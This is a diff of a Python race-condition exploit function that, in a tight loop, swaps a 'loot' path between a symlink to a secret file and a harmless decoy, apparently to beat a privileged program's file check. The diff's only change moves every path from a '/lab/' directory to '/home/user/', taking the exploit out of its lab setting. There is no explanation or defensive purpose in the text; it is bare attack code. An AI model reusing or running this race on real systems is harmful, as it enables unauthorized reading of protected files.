@@ -11,14 +11,14 @@ import threading
 
 def swap():
     ends = time.monotonic() + 3
-    with open("/lab/file", "w") as file:
+    with open("/home/user/file", "w") as file:
         file.write("harmless")
     while time.monotonic() < ends:
         try:
-            os.symlink(secret_path, "/lab/link")
-            os.rename("/lab/link", "/lab/loot")
-            os.link("/lab/file", "/lab/other")
-            os.rename("/lab/other", "/lab/loot")
+            os.symlink(secret_path, "/home/user/link")
+            os.rename("/home/user/link", "/home/user/loot")
+            os.link("/home/user/file", "/home/user/other")
+            os.rename("/home/user/other", "/home/user/loot")
         except OSError:
             time.sleep(0.001)
 
